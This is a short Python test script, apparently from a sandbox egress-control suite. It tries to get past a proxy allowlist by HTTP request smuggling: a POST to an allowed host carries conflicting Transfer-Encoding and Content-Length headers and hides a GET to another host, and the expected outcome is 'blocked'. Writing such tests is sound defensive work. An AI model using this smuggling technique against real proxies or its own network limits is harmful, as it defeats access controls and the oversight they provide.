# Hides a request for another host in one for a host of the list.
# ends: blocked
# control: proxy
# configurations: permissive

import base64
import os
import socket
import urllib.parse

proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
name = urllib.parse.unquote(f"{proxy.username}:{proxy.password}").encode()
who = f"Proxy-Authorization: Basic {base64.b64encode(name).decode()}\r\n"
hidden = f"GET http://elsewhere.example.org/ HTTP/1.1\r\nHost: elsewhere.example.org\r\n{who}\r\n"
lengths = "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n"
outer = f"POST http://allowed.athena.invalid/ HTTP/1.1\r\nHost: elsewhere.example.org\r\n{who}"
with socket.create_connection((proxy.hostname, proxy.port), 5) as made:
    made.sendall(f"{outer}{lengths}\r\n0\r\n\r\n{hidden}".encode())
    answer = b""
    while piece := made.recv(4096):
        answer += piece
        if b"\r\n\r\n" in answer and b"HTTP/1.1 200" not in answer:
            break
refused = answer.startswith(b"HTTP/1.1 4") and b"HTTP/1.1 200" not in answer
f"BLOCKED:{answer[:60]}" if refused else f"GOT:{answer}"
